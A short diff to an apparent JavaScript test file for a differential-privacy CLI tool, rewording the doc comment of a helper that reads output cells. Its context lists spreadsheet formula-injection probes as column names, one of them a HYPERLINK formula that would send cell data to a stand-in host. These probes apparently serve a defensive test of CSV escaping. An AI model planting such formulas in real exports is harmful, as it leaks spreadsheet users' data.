@@ -16,7 +16,7 @@ const privacy = ['--epsilon', '1', '--delta', '1e-6', '--quiet'];
 const names = ['=1+1', '+a', '-a', '@SUM(A1)', '=HYPERLINK("http://a.example?"&A1)'];
 const quoted = (text) => `"${text.replaceAll('"', '""')}"`;
 
-/** Runs a command on a table whose columns and categories have these names, and reads its cells. */
+/** Runs a command on the table `input`, and returns the cells of its output. */
 async function cellsOf(args, input) {
   const { code, stdout, stderr } = await dpFtrl(args, { input });
   assert.equal(code, 0, stderr);
